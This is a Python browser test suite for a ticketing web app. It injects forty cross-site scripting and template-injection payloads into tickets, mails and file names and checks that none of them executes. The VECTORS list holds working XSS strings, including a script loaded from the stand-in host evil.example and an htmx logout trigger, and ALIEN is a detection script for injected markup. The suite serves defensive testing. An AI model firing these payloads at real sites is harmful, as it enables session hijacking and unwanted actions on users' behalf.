"""Forty ways of putting a program into what a client writes: none runs, even without our policy."""

from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser

from models.base import db, now, transaction
from models.calendar import business_day
from models.contact import Contact
from models.flag import Flag
from models.intake import Adapter
from models.mailbox import Mailbox
from models.placing import place
from models.screening import Screening
from models.topic import LANGUAGES
from models.user import User
from tests.browser.conftest import Lived, Site, Visit, served
from tests.browser.lived import answer, problem, with_file
from tests.conftest import Servers
from tests.people import House, Person
from triage.application import Passerelle
from triage.intake import receive_mail

pytestmark = pytest.mark.browser

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(2)</sCrIpT>",
    "<script src=//evil.example/3.js></script>",
    "<img src=x onerror=alert(4)>",
    "<img src=x onerror=alert`5`>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    "<svg><animate onbegin=alert(8) attributeName=x dur=1s>",
    "<body onload=alert(9)>",
    "<iframe src='javascript:alert(10)'></iframe>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    "<a href='javascript:alert(12)'>x</a>",
    "<a href='data:text/html,<script>alert(13)</script>'>x</a>",
    "<details open ontoggle=alert(14)>",
    "<input autofocus onfocus=alert(15)>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=x onerror=alert(17)>",
    "<math><mtext></mtext><img src=x onerror=alert(18)></math>",
    "<object data='javascript:alert(19)'></object>",
    "<embed src='javascript:alert(20)'>",
    "<form action='javascript:alert(21)'><button>x</button></form>",
    "<marquee onstart=alert(22)>x</marquee>",
    "<style>@import 'javascript:alert(23)';</style>",
    "<link rel=stylesheet href='javascript:alert(24)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(25)'>",
    "<base href='//evil.example/26/'>",
    '"><script>alert(27)</script>',
    "'><script>alert(28)</script>",
    '" onmouseover="alert(29)',
    "' onfocus='alert(30)' autofocus='",
    "</title><script>alert(31)</script>",
    "</textarea><script>alert(32)</script>",
    "</script><script>alert(33)</script>",
    "--><script>alert(34)</script><!--",
    "]]><script>alert(35)</script>",
    "{{ 7*7 }}{{ config }}{% for x in () %}",
    "<div hx-get='/logout' hx-trigger='load'>37</div>",
    "<div data-hx-on:load='alert(38)'>x</div>",
    "\u003cscript\u003ealert(39)\u003c/script\u003e&lt;script&gt;alert(39)&lt;/script&gt;",
    "<scr\x00ipt>alert(40)</scr\x00ipt><\u200bimg src=x onerror=alert(40)>",
)

ALIEN = """[...document.querySelectorAll("*")].filter((one) =>
  [...one.attributes].some((had) => /^on/i.test(had.name) || /^\\s*javascript:/i.test(had.value)
    || /^(data-)?hx-on/.test(had.name))
  || one.matches("script:not([src]), script[src*=evil], iframe:not(.mail[sandbox]), object, "
    + "embed, base, marquee, math, main style, [srcdoc], [hx-get='/logout']")
).map((one) => one.outerHTML.slice(0, 100))"""
"""What none of our pages ever holds."""


@dataclass
class Attacked:
    """The house after forty such clients."""

    site: Site
    tickets: list[int]
    """Numbers, one for each vector."""

    def open(self, path: str) -> Visit:
        """As the manager, in a browser that lets everything run."""
        return self.site.visit(path, "koen", bypass_csp=True)


@pytest.fixture(scope="module")
def house(chromium: Browser, lived_in: Lived, servers: Servers) -> Iterator[Attacked]:
    with served(chromium, lived_in, servers) as site:
        with site.app.app_context():
            tickets = attack(site.app)
            db.session.remove()
        yield Attacked(site, tickets)


@pytest.fixture
def attacked(house: Attacked) -> Iterator[Attacked]:
    yield house
    house.site.leave()


def attack(app: Passerelle) -> list[int]:
    house = House(app)
    koen = db.session.scalar(User.by_login("koen"))
    nadia = db.session.scalar(User.by_login("nadia"))
    assert koen is not None and nadia is not None
    vars(house).update(koen=koen, nadia=nadia)
    intakes = [written(position, vector) for position, vector in enumerate(VECTORS)]
    house.work()
    numbers = []
    for position, vector in enumerate(VECTORS):
        contact = Contact.from_intake(intakes[position])
        assert contact is not None
        with transaction():
            ticket = house.ticket(contact)
            ticket.note(vector, by=koen, at=now())
            Flag.raise_on(ticket, "", by=koen, at=now())
            answer(house, ticket, vector, now())
            found = problem("payment", "late", 60 + position, "rising")
            for language in LANGUAGES:
                found.rename(vector, language, by=koen)
            place(contact.id, found, score=1.0, reason={"terms": [vector]}, at=now())
            numbers.append(ticket.number)
    return numbers


def written(position: int, vector: str) -> int:
    """A mail that carries it in name, subject, text and the name of a file."""
    header = vector.replace("\x00", "")
    who = Person(header, f"v{position}@evil.example", "", "fr")
    mail = with_file(who, f"{vector}\n\nRien reçu.", f"{position} {header}", f"{header}.txt")
    return receive_mail(
        mail, adapter=Adapter.SMTP, mailbox=Mailbox.first(), mail_from=who.email, rcpt_to=[]
    )


def say(site: Site, vector: str) -> None:
    """Today's sentence for everybody."""
    with site.app.app_context(), transaction():
        koen = db.session.scalar(User.by_login("koen"))
        assert koen is not None
        Screening.on(business_day(now())).say(dict.fromkeys(LANGUAGES, vector), by=koen)


def aliens(visit: Visit) -> list[str]:
    found: list[str] = visit.page.evaluate(ALIEN)
    return found


def test_the_trap_springs(attacked: Attacked) -> None:
    """Where nothing was escaped, this browser would run it and we would know."""
    visit = attacked.open("/me")
    visit.page.set_content("<h1>x</h1><img src=x onerror=alert(0)>")
    visit.page.wait_for_timeout(300)
    assert any("dialog: 0" in fault for fault in visit.faults)
    assert aliens(visit)


@pytest.mark.parametrize("position", range(len(VECTORS)))
def test_nothing_runs_on_a_ticket(attacked: Attacked, position: int) -> None:
    vector = VECTORS[position]
    say(attacked.site, vector)
    visit = attacked.open(f"/desk/tickets/{attacked.tickets[position]}?view=all")
    assert visit.status == 200
    assert visit.faults == []
    assert aliens(visit) == []
    if "\x00" not in vector:
        for place_of in (".note .words", ".ours .words", ".said .words", ".banner.sentence"):
            assert any(vector in text for text in visit.page.locator(place_of).all_inner_texts())


@pytest.mark.parametrize(
    "path",
    [
        "/desk/?view=all",
        "/screening/?open=pressing",
        "/screening/minutes",
        "/screening/problems/7",
        "/dashboard/list?figure=inflow",
        "/dashboard/list?figure=backlog",
        "/desk/outgoing",
        "/calls/new?number=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
        "/desk/?view=all&q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    ],
)
def test_nothing_runs_where_many_are_shown(attacked: Attacked, path: str) -> None:
    visit = attacked.open(path)
    assert visit.status == 200
    assert visit.faults == []
    assert aliens(visit) == []
    assert "alert(" in visit.page.content()
